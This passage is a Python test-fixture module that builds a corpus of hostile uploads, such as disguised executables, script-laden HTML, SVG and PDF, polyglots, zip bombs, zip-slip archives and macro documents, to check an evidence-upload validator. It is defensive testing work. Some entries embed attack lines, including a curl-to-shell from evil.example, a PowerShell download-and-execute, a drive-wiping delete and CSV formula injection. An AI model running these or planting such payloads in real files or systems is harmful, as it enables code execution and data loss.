"""A corpus of hostile uploads, built here in code (no binary files are kept in the repository).

Each file has a label (its pytest id), a category, the name and content type the browser claims,
its bytes, and what must happen to it:

- REFUSED: the upload is refused with ``message`` (on the web a 400 form error, in the API a 422
  problem naming the field ``file``), and nothing is kept: no Evidence row, no file on disk.
- STORED_AS_DOWNLOAD: it is kept as the kind of file its content shows (``stored_type``), and is
  only ever sent back as an attachment that a browser will not show or run.

Everything is deterministic: the same corpus every run. The size limit while the corpus runs is
``LIMIT`` (set through settings), so that "just over the limit" files stay small and quick.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from pypdf import PdfWriter

from sendroute.cases.evidence_store import (
    EMPTY_MESSAGE,
    MACROS_MESSAGE,
    PDF_ATTACHED_MESSAGE,
    PDF_PROTECTED_MESSAGE,
    PDF_SCRIPT_MESSAGE,
    PDF_UNCHECKED_MESSAGE,
    PROTECTED_MESSAGE,
    TYPE_MESSAGE,
)

# The OLE2 builder (Word .doc, Outlook .msg) that the evidence tests already use.
from tests.web.test_evidence import DOC, MSG, ole2, word_fib

LIMIT = 256 * 1024
TOO_LARGE_MESSAGE = "The selected file must be smaller than 256KB"

REFUSED = "refused"
# Refused by Django's request parser before any view sees it (a plain 400 page): only for
# requests no browser sends, such as a file name longer than any file system allows.
UNREADABLE = "refused as an unreadable request"
STORED_AS_DOWNLOAD = "stored as download"

PDF_TYPE = "application/pdf"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
DOC_TYPE = "application/msword"
JPEG_TYPE = "image/jpeg"
PNG_TYPE = "image/png"
EML_TYPE = "message/rfc822"
MSG_TYPE = "application/vnd.ms-outlook"


@dataclass(frozen=True)
class Hostile:
    label: str
    category: str
    name: str
    content: bytes
    expected: str
    message: str = ""  # for REFUSED
    stored_type: str = ""  # for STORED_AS_DOWNLOAD
    claimed_type: str = "application/octet-stream"  # what the multipart header says


def refused(
    category, label, name, content, message=TYPE_MESSAGE, claimed="application/octet-stream"
):
    return Hostile(label, category, name, content, REFUSED, message=message, claimed_type=claimed)


def stored(category, label, name, content, stored_type, claimed="application/octet-stream"):
    return Hostile(
        label,
        category,
        name,
        content,
        STORED_AS_DOWNLOAD,
        stored_type=stored_type,
        claimed_type=claimed,
    )


# -- building blocks ----------------------------------------------------------------------------


def pdf(*objects: bytes, trailer: bytes = b"", version: bytes = b"1.7") -> bytes:
    """A well-formed PDF: object 1 is the catalog, 2 the pages, 3 one page; ``objects`` are
    numbered from 4 on (each the text between 'N 0 obj' and 'endobj'). ``trailer`` is added to
    the trailer dictionary."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        *objects,
    ]
    return _pdf_file(bodies, trailer, version)


def pdf_with_catalog(catalog_extra: bytes, *objects: bytes, trailer: bytes = b"") -> bytes:
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        *objects,
    ]
    return _pdf_file(bodies, trailer, b"1.7")


def _pdf_file(bodies: list[bytes], trailer: bytes, version: bytes) -> bytes:
    out = b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(bodies) + 1) + trailer + b" >>\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % xref


def object_stream(
    objects: list[tuple[int, bytes]], filter_: bytes | None = b"FlateDecode"
) -> bytes:
    """An object stream (PDF 1.5) holding these (number, dictionary) objects."""
    header, body = b"", b""
    for number, text in objects:
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    raw = header + body
    first = len(header)
    if filter_ == b"FlateDecode":
        data = zlib.compress(raw)
    elif filter_ == b"ASCIIHexDecode":
        data = raw.hex().encode() + b">"
    else:
        data = raw
    names = b" /Filter /" + filter_ if filter_ else b""
    return (
        b"<< /Type /ObjStm /N %d /First %d /Length %d" % (len(objects), first, len(data))
        + names
        + b" >>\nstream\n"
        + data
        + b"\nendstream"
    )


def pdf_with_xref_stream(inner: bytes, decoy: bytes = b"") -> bytes:
    """A PDF 1.5 as modern writers make it: object 5 (``inner``, what the catalog's OpenAction
    points at) is kept compressed in object stream 4, and a cross-reference stream (object 6)
    says so. ``decoy`` is added to the object stream's dictionary."""
    head = b"5 0 "
    packed = zlib.compress(head + inner)
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode "
        % (len(head), len(packed))
        + decoy
        + b" >>\nstream\n"
        + packed
        + b"\nendstream",
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    rows = b"\x00" + struct.pack(">IH", 0, 65535)
    rows += b"".join(b"\x01" + struct.pack(">IH", o, 0) for o in offsets)
    rows += b"\x02" + struct.pack(">IH", 4, 0)  # object 5: in object stream 4, first
    rows += b"\x01" + struct.pack(">IH", xref_at, 0)  # object 6: this stream
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(rows)
        + rows
        + b"\nendstream\nendobj\n"
    )
    return out + b"startxref\n%d\n%%%%EOF\n" % xref_at


def pypdf_pdf(*, user_password: str | None = None, algorithm: str = "RC4-128", js: bool = False):
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if js:
        from pypdf.generic import DictionaryObject, NameObject, TextStringObject

        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1);"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if user_password is not None:
        writer.encrypt(user_password=user_password, owner_password="owner", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def aes256_locked_pdf() -> bytes:
    """A PDF whose /Encrypt dictionary asks for AES-256 (revision 6): without an AES library
    neither this server nor its bundle can decrypt it."""
    encrypt = (
        b"<< /Filter /Standard /V 5 /R 6 /Length 256 /P -3904 "
        b"/CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> "
        b"/StmF /StdCF /StrF /StdCF "
        b"/O <" + b"11" * 48 + b"> /U <" + b"22" * 48 + b"> "
        b"/OE <" + b"33" * 32 + b"> /UE <" + b"44" * 32 + b"> /Perms <" + b"55" * 16 + b"> >>"
    )
    return pdf(encrypt, trailer=b"/Encrypt 4 0 R /ID [<0102030405060708> <0102030405060708>]")


def png(extra_chunks: bytes = b"", width: int = 1, height: int = 1) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    raw = b"".join(b"\x00" + b"\x00" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + extra_chunks
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + b"\x00" * 32
    + b"\xff\xd9"
)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)
DOCUMENT = (
    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Letter</w:t></w:r></w:p></w:body></w:document>"
)


def zip_of(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = method
            z.writestr(info, data)
    return out.getvalue()


def docx(extra: list[tuple[str, bytes]] = (), content_types: bytes = CONTENT_TYPES) -> bytes:  # type: ignore[assignment]
    return zip_of(
        [
            ("[Content_Types].xml", content_types),
            ("word/document.xml", DOCUMENT),
            *extra,
        ]
    )


def overlapping_zip_bomb(copies: int = 200, kernel: int = 4 * 1024 * 1024) -> bytes:
    """David Fifield's 'better zip bomb' idea, small: many central directory entries that all
    point at the same compressed data, each declaring its full unpacked size."""
    data = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = data.compress(b"\x00" * kernel) + data.flush()
    crc = zlib.crc32(b"\x00" * kernel)
    body = io.BytesIO()
    heads = []
    for name in (b"[Content_Types].xml", b"word/document.xml"):
        content = CONTENT_TYPES if name.startswith(b"[") else DOCUMENT
        offset = body.tell()
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        small = c.compress(content) + c.flush()
        local = struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            0,
            8,
            0,
            0x5C21,
            zlib.crc32(content),
            len(small),
            len(content),
            len(name),
            0,
        )
        body.write(local + name + small)
        heads.append((name, offset, zlib.crc32(content), len(small), len(content)))
    offset = body.tell()
    name0 = b"word/media/a0.bin"
    body.write(
        struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            0,
            8,
            0,
            0x5C21,
            crc,
            len(packed),
            kernel,
            len(name0),
            0,
        )
        + name0
        + packed
    )
    for i in range(copies):
        heads.append((f"word/media/a{i}.bin".encode(), offset, crc, len(packed), kernel))
    central_start = body.tell()
    for name, off, c, packed_size, size in heads:
        body.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0x5C21,
                c,
                packed_size,
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                off,
            )
            + name
        )
    central_size = body.tell() - central_start
    body.write(
        struct.pack(
            "<IHHHHIIH", 0x06054B50, 0, 0, len(heads), len(heads), central_size, central_start, 0
        )
    )
    return body.getvalue()


EML_HEAD = (
    b"From: office@oak-school.example\r\nTo: parent@example.invalid\r\n"
    b"Subject: Support plan\r\nDate: Tue, 3 Mar 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
)
PLAIN_PDF = pdf()

# -- payloads that are not accepted kinds ------------------------------------------------------

PROGRAMS = {
    "windows exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"
    + b"\x00" * 50
    + b"\x80\x00\x00\x00"
    + b"\x00" * 64
    + b"PE\x00\x00L\x01\x03\x00",
    "linux elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00>\x00\x01\x00\x00\x00",
    "mac mach-o": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00",
    "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x10",
    "webassembly": b"\x00asm\x01\x00\x00\x00",
    "shell script": b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
    "python script": b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
    "windows batch": b"@echo off\r\ndel /q C:\\*\r\n",
    "powershell": b"Invoke-WebRequest http://evil.example/x.ps1 | Invoke-Expression\r\n",
    "vbscript": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n',
    "javascript": b"require('child_process').exec('id');\n",
    "html application": b'<HTA:APPLICATION ID="x"><script language="VBScript">Run</script>',
    "windows shortcut": b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F",
    "plain zip": zip_of([("readme.txt", b"hello"), ("run.exe", b"MZ")]),
    "java archive": zip_of(
        [("META-INF/MANIFEST.MF", b"Main-Class: X\n"), ("X.class", b"\xca\xfe")]
    ),
    "excel workbook": zip_of(
        [
            ("[Content_Types].xml", b"<Types>spreadsheetml.sheet.main+xml</Types>"),
            ("xl/workbook.xml", b"<workbook/>"),
        ]
    ),
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + zlib.compress(b"x")[2:],
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 16,
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24,
    "rtf": b"{\\rtf1\\ansi{\\object\\objocx{\\*\\objdata 0102}}}",
    "gif image": GIF,
    "bmp image": b"BM" + struct.pack("<IHHI", 58, 0, 0, 54) + b"\x28" + b"\x00" * 51,
    "tiff image": b"II*\x00\x08\x00\x00\x00" + b"\x00" * 16,
    "webp image": b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00",
    "plain text": b"Notes of the meeting with the SENCo.\n",
    "csv": b"=cmd|' /C calc'!A0,1,2\n",
}
WRONG_NAMES = ("letter.pdf", "letter.docx", "photo.png", "photo.jpg")

SCRIPT = b"<script>alert(document.cookie)</script>"
MARKUP = {
    "html": b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>",
    "html uppercase": b"<!DOCTYPE HTML><HTML><BODY><SCRIPT>alert(1)</SCRIPT></BODY></HTML>",
    "html no doctype": b"<html><head><script src=//evil.example/x.js></script></head></html>",
    "html leading blank lines": b"\r\n\r\n  \t<html><body onload=alert(1)></body></html>",
    "html comment first": b"<!-- letter --><html><img src=x onerror=alert(1)></html>",
    "html img onerror only": b"<img src=x onerror=alert(1)>",
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "svg script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg onload": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "svg uppercase": b'<SVG XMLNS="http://www.w3.org/2000/svg"><SCRIPT>alert(1)</SCRIPT></SVG>',
    "svg xml prolog": b'<?xml version="1.0" standalone="no"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg foreignobject": b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject></svg>',
    "svg xlink javascript": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "xml with xsl": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x/>',
    "html in pdf comment lookalike": b"%PDX-1.4\n<html><script>alert(1)</script></html>",
    "html then pdf header later": b"<html><script>alert(1)</script></html>\n%PDF-1.4\n%%EOF\n",
}
ENCODINGS = {
    "": lambda b: b,
    " utf-8 bom": lambda b: b"\xef\xbb\xbf" + b,
    " utf-16le": lambda b: b"\xff\xfe" + b.decode("latin-1").encode("utf-16-le"),
    " utf-16be": lambda b: b"\xfe\xff" + b.decode("latin-1").encode("utf-16-be"),
}
MARKUP_NAMES = ("page.html", "letter.pdf", "drawing.svg")


def _corpus() -> list[Hostile]:
    c: list[Hostile] = []

    # wrong extensions: programs and other kinds, named as accepted kinds
    for i, (what, content) in enumerate(PROGRAMS.items()):
        for name in (WRONG_NAMES[i % 4], WRONG_NAMES[(i + 1) % 4]):
            c.append(refused("wrong extension", f"{what} named {name}", name, content))

    # HTML and SVG with script, in several spellings and encodings
    for i, (what, content) in enumerate(MARKUP.items()):
        for j, (encoding, encode) in enumerate(ENCODINGS.items()):
            if encoding and what not in ("html", "svg script", "xhtml", "svg uppercase"):
                continue
            names = MARKUP_NAMES[:2] if not encoding else MARKUP_NAMES[(i + j) % 3 :][:1]
            for name in names or MARKUP_NAMES[:1]:
                c.append(
                    refused(
                        "html or svg with script",
                        f"{what}{encoding} as {name}",
                        name,
                        encode(content),
                    )
                )

    # polyglots: one file, two readings
    poly = "polyglot"
    c += [
        stored(poly, "pdf then html", "letter.pdf", PLAIN_PDF + b"<html>" + SCRIPT, PDF_TYPE),
        stored(
            poly,
            "pdf with html in its body",
            "letter.html",
            pdf(b"<< /Length 40 >>\nstream\n" + SCRIPT + b"\nendstream"),
            PDF_TYPE,
        ),
        stored(poly, "pdf then zip", "letter.pdf", PLAIN_PDF + PROGRAMS["plain zip"], PDF_TYPE),
        stored(poly, "png then zip", "photo.png", png() + PROGRAMS["java archive"], PNG_TYPE),
        stored(
            poly,
            "png with script text chunk",
            "photo.png",
            png(chunk(b"tEXt", b"Comment\x00" + SCRIPT)),
            PNG_TYPE,
        ),
        stored(poly, "jpeg then html after eoi", "photo.jpg", JPEG + b"<html>" + SCRIPT, JPEG_TYPE),
        stored(
            poly,
            "jpeg with html comment",
            "photo.jpg",
            JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT + JPEG[2:],
            JPEG_TYPE,
        ),
        stored(
            poly, "jpeg then zip (jar)", "photo.jpg", JPEG + PROGRAMS["java archive"], JPEG_TYPE
        ),
        stored(poly, "jpeg named html", "page.html", JPEG, JPEG_TYPE),
        refused(poly, "gifar (gif then jar)", "photo.jpg", GIF + PROGRAMS["java archive"]),
        refused(
            poly,
            "gif with script comment",
            "photo.png",
            GIF[:-1] + b"!\xfe\x10" + SCRIPT[:16] + b"\x00;",
        ),
        refused(poly, "html then docx", "letter.docx", b"<html>" + SCRIPT + b"</html>" + docx()),
        refused(poly, "html then pdf", "letter.pdf", b"<html>" + SCRIPT + b"</html>" + PLAIN_PDF),
        refused(poly, "zip then pdf", "letter.pdf", PROGRAMS["plain zip"] + PLAIN_PDF),
        refused(
            poly,
            "pdf header after 1kb of html",
            "letter.pdf",
            b"<html>" + b" " * 1024 + SCRIPT + PLAIN_PDF,
        ),
        stored(
            poly,
            "docx with html part",
            "letter.docx",
            docx([("word/evil.html", b"<html>" + SCRIPT)]),
            DOCX_TYPE,
        ),
    ]

    # PDFs that run something, or carry other files
    act = "pdf with active content"
    js_action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    c += [
        refused(
            act,
            "pdf javascript openaction",
            "letter.pdf",
            pdf_with_catalog(b"/OpenAction 4 0 R", js_action),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf javascript name tree",
            "letter.pdf",
            pdf_with_catalog(
                b"/Names << /JavaScript 4 0 R >>", b"<< /Names [(x) 5 0 R] >>", js_action
            ),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf javascript in page additional action",
            "letter.pdf",
            pdf(b"<< /Type /Annot /Subtype /Widget /AA << /O 5 0 R >> >>", js_action),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf launch action",
            "letter.pdf",
            pdf_with_catalog(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf launch win",
            "letter.pdf",
            pdf_with_catalog(b"/OpenAction << /S /Launch /Win << /F (calc.exe) >> >>"),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf richmedia flash",
            "letter.pdf",
            pdf(b"<< /Type /Annot /Subtype /RichMedia >>"),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf xfa form",
            "form.pdf",
            pdf_with_catalog(
                b"/AcroForm << /Fields [] /XFA 4 0 R >>",
                b"<< /Length 5 >>\nstream\n<xdp>\nendstream",
            ),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf obfuscated js name (#xx escapes)",
            "letter.pdf",
            pdf_with_catalog(b"/OpenAction << /S /JavaScr#69pt /J#53 (app.alert\\(1\\)) >>"),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf javascript in a compressed object stream",
            "letter.pdf",
            pdf_with_catalog(b"/OpenAction 5 0 R", object_stream([(5, js_action)])),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf javascript in an uncompressed object stream",
            "letter.pdf",
            pdf_with_catalog(b"/OpenAction 5 0 R", object_stream([(5, js_action)], None)),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf object stream with obfuscated type",
            "letter.pdf",
            pdf_with_catalog(
                b"/OpenAction 5 0 R",
                object_stream([(5, js_action)]).replace(b"/ObjStm", b"/Obj#53tm"),
            ),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf object stream hidden behind hex filter",
            "letter.pdf",
            pdf_with_catalog(
                b"/OpenAction 5 0 R", object_stream([(5, js_action)], b"ASCIIHexDecode")
            ),
            PDF_UNCHECKED_MESSAGE,
        ),
        refused(
            act,
            "pdf object stream cut short",
            "letter.pdf",
            pdf(
                b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 9 >>\nstream\n"
                + zlib.compress(b"5 0 " + js_action * 50)[:30]
                + b"\nendstream"
            ),
            PDF_UNCHECKED_MESSAGE,
        ),
        refused(
            act,
            "pdf object stream that is a zip bomb",
            "letter.pdf",
            pdf(
                b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
                + zlib.compress(b" " * (40 * 1024 * 1024), 9)
                + b"\nendstream"
            ),
            PDF_UNCHECKED_MESSAGE,
        ),
        refused(
            act,
            "pdf embedded file",
            "letter.pdf",
            pdf(
                b"<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ),
            PDF_ATTACHED_MESSAGE,
        ),
        refused(
            act,
            "pdf embedded files name tree",
            "letter.pdf",
            pdf_with_catalog(b"/Names << /EmbeddedFiles << /Names [] >> >>"),
            PDF_ATTACHED_MESSAGE,
        ),
        refused(
            act,
            "pdf javascript with openaction written by pypdf",
            "letter.pdf",
            pypdf_pdf(js=True),
            PDF_SCRIPT_MESSAGE,
        ),
        stored(
            act,
            "pdf openaction that only goes to page 1",
            "letter.pdf",
            pdf_with_catalog(b"/OpenAction [3 0 R /Fit]"),
            PDF_TYPE,
        ),
        stored(
            act,
            "pdf with a web link",
            "letter.pdf",
            pdf(b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.gov.uk) >> >>"),
            PDF_TYPE,
        ),
        refused(
            act,
            "pdf javascript in an object stream with a decoy in its dictionary",
            "letter.pdf",
            pdf_with_xref_stream(js_action, decoy=b"/Decoy (1 0 obj)"),
            PDF_SCRIPT_MESSAGE,
        ),
        refused(
            act,
            "pdf javascript in an object stream found through a cross-reference stream",
            "letter.pdf",
            pdf_with_xref_stream(js_action),
            PDF_SCRIPT_MESSAGE,
        ),
        stored(
            act,
            "pdf 1.5 with a cross-reference stream and a clean object stream",
            "letter.pdf",
            pdf_with_xref_stream(b"[3 0 R /Fit]"),
            PDF_TYPE,
        ),
        stored(
            act,
            "pdf with a clean object stream",
            "letter.pdf",
            pdf(object_stream([(5, b"<< /Producer (Word) >>")])),
            PDF_TYPE,
        ),
        stored(
            act,
            "pdf mentioning javascript in its text",
            "letter.pdf",
            pdf(b"<< /Length 44 >>\nstream\nBT (JavaScript and JS are words) Tj ET\nendstream"),
            PDF_TYPE,
        ),
    ]

    # encrypted PDFs
    enc = "encrypted pdf"
    for algorithm in ("RC4-40", "RC4-128"):
        c.append(
            refused(
                enc,
                f"pdf that needs a password ({algorithm})",
                "locked.pdf",
                pypdf_pdf(user_password="letmein", algorithm=algorithm),
                PDF_PROTECTED_MESSAGE,
            )
        )
        c.append(
            stored(
                enc,
                f"pdf locked only against printing ({algorithm})",
                "locked.pdf",
                pypdf_pdf(user_password="", algorithm=algorithm),
                PDF_TYPE,
            )
        )
        c.append(
            refused(
                enc,
                f"pdf locked only against printing with javascript ({algorithm})",
                "locked.pdf",
                pypdf_pdf(user_password="", algorithm=algorithm, js=True),
                PDF_SCRIPT_MESSAGE,
            )
        )
    c += [
        stored(
            enc,
            "pdf locked with aes-256, which cannot be checked here",
            "locked.pdf",
            aes256_locked_pdf(),
            PDF_TYPE,
        ),
        refused(
            enc,
            "pdf with a broken encryption dictionary",
            "locked.pdf",
            pdf(
                b"<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>", trailer=b"/Encrypt 4 0 R"
            ),
            PDF_PROTECTED_MESSAGE,
        ),
        refused(
            enc,
            "pdf with an encryption dictionary that is not one",
            "locked.pdf",
            pdf(b"<< /Filter /Standard /V 2 /R 3 /O 7 /U [1] /P (x) >>", trailer=b"/Encrypt 4 0 R"),
            PDF_UNCHECKED_MESSAGE,
        ),
    ]

    # zip bombs and hostile zips dressed as Word documents
    bomb = "zip bomb or hostile zip"
    c += [
        refused(
            bomb,
            "docx with a part unpacking to 20MB of zeros",
            "letter.docx",
            docx([("word/media/image1.png", b"\0" * (20 * 1024 * 1024))]),
        ),
        refused(
            bomb,
            "docx with document.xml unpacking to 2MB",
            "letter.docx",
            docx([("word/document2.xml", b"<" + b"a" * (2 * 1024 * 1024))]),
        ),
        refused(
            bomb,
            "docx with 2002 entries",
            "letter.docx",
            docx([(f"{i}", b"") for i in range(2000)]),
        ),
        refused(
            bomb,
            "docx with overlapping entries (better zip bomb)",
            "letter.docx",
            overlapping_zip_bomb(),
        ),
        refused(
            bomb,
            "docx with a parent-folder entry",
            "letter.docx",
            docx([("../../../../tmp/evil.sh", b"#!/bin/sh\n")]),
        ),
        refused(
            bomb,
            "docx with an absolute entry",
            "letter.docx",
            docx([("/etc/cron.d/evil", b"* * * * * root id\n")]),
        ),
        refused(
            bomb,
            "docx with a windows drive entry",
            "letter.docx",
            docx([("C:/Windows/evil.exe", b"MZ")]),
        ),
        refused(
            bomb,
            "docx with a backslash traversal entry",
            "letter.docx",
            docx([("..\\..\\evil.exe", b"MZ")]),
        ),
        refused(
            bomb,
            "docx with a control character entry",
            "letter.docx",
            docx([("word/\x1b[31mevil", b"x")]),
        ),
        refused(
            bomb,
            "docx with encrypted entries",
            "letter.docx",
            docx()
            .replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00")
            .replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"),
            PROTECTED_MESSAGE,
        ),
        refused(bomb, "truncated docx", "letter.docx", docx()[:200]),
        refused(
            bomb,
            "docx without document.xml",
            "letter.docx",
            zip_of([("[Content_Types].xml", CONTENT_TYPES)]),
        ),
        stored(
            bomb,
            "docx holding a nested zip (never unpacked)",
            "letter.docx",
            docx(
                [
                    (
                        "word/embeddings/nested.zip",
                        zip_of([("inner.zip", zip_of([("zeros", b"\0" * 1024 * 1024)]))]),
                    )
                ]
            ),
            DOCX_TYPE,
        ),
    ]

    # Word and Office files with macros, and other OLE2 files
    mac = "macros and ole2"
    docm_types = CONTENT_TYPES.replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    )
    c += [
        refused(
            mac,
            "docm renamed docx",
            "letter.docx",
            docx([("word/vbaProject.bin", ole2({"PROJECT": b"x"}))], docm_types),
            MACROS_MESSAGE,
        ),
        refused(
            mac,
            "docm content types only",
            "letter.docx",
            docx(content_types=docm_types),
            MACROS_MESSAGE,
        ),
        refused(
            mac,
            "docx with vbaProject.bin",
            "letter.docx",
            docx([("word/vbaProject.bin", ole2({"PROJECT": b"x"}))]),
            MACROS_MESSAGE,
        ),
        refused(
            mac,
            "docx with VBAPROJECT.BIN in capitals",
            "letter.docx",
            docx([("word/VBAPROJECT.BIN", b"\0" * 64)]),
            MACROS_MESSAGE,
        ),
        refused(
            mac,
            "dotm template",
            "template.dotm",
            docx(
                content_types=CONTENT_TYPES.replace(
                    b"wordprocessingml.document.main+xml",
                    b"ms-word.template.macroEnabledTemplate.main+xml",
                )
            ),
            MACROS_MESSAGE,
        ),
        refused(
            mac,
            "word 97 with macros",
            "letter.doc",
            ole2({"WordDocument": word_fib(), "1Table": b"\0" * 16}, ("Macros",)),
            MACROS_MESSAGE,
        ),
        refused(
            mac,
            "word 97 with macros named pdf",
            "letter.pdf",
            ole2({"WordDocument": word_fib()}, ("Macros",)),
            MACROS_MESSAGE,
        ),
        refused(
            mac,
            "excel 97 with vba",
            "letter.doc",
            ole2({"Workbook": b"\x09\x08" + b"\0" * 30}, ("_VBA_PROJECT_CUR",)),
        ),
        refused(mac, "windows installer", "letter.doc", ole2({"\u4840\u3b3f": b"\0" * 16})),
        refused(
            mac,
            "word 97 that needs a password",
            "letter.doc",
